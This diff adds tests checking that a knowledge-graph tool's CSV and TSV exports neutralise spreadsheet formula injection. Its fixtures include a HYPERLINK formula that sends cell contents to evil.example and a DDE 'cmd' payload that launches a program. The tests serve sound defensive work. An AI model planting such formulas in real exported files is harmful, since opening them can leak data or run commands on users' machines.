@@ -236,3 +236,33 @@ def test_cli_export(build_dir: Path, tmp_path: Path, fmt: str) -> None:
 def test_cli_export_rejects_an_unknown_format(build_dir: Path) -> None:
     result = CliRunner().invoke(cli, ["export", str(build_dir), "--format", "xlsx"])
     assert result.exit_code == 2 and "xlsx" in result.output
+
+
+# -- CSV injection (issue 13, item 12) -------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB=1"]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(build_dir: Path, tmp_path: Path) -> None:
+    from kg.export import write_csv
+
+    store = OxigraphStore()
+    store.load(build_dir / "graph.trig", "trig")
+    for i, name in enumerate(FORMULAS):
+        literal = name.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
+        store.update(f'INSERT DATA {{ GRAPH <https://w3id.org/ccakg/graph/entities> {{ '
+                     f'kg:o-evil{i} a kgo:Agency ; skos:prefLabel "{literal}"@zh-Hans }} }}')
+    entities = read_csv((write_csv(store, tmp_path / "t") / "entities.csv").read_bytes())
+    names = {row["name_zh_hans"] for row in entities}
+    assert {"'" + f for f in FORMULAS} <= names
+    assert not [n for n in names if n.startswith(("=", "+", "-", "@", "\t"))]
+
+
+def test_query_csv_neutralises_formulas_but_not_numbers(build_dir: Path) -> None:
+    query = ('SELECT ?x ?n ?p WHERE { VALUES (?x ?n ?p) { '
+             '("=1+cmd|\' /C calc\'!A0" "-3.5" "+12%") ("@SUM(1)" "-7" "=2") } }')
+    for fmt, sep in (("csv", ","), ("tsv", "\t")):
+        result = CliRunner().invoke(cli, ["query", query, "--store", str(build_dir / "store"), "--format", fmt])
+        assert result.exit_code == 0, result.output
+        rows = list(csv.reader(io.StringIO(result.output), delimiter=sep))
+        assert rows[1:] == [["'=1+cmd|' /C calc'!A0", "-3.5", "+12%"], ["'@SUM(1)", "-7", "'=2"]]
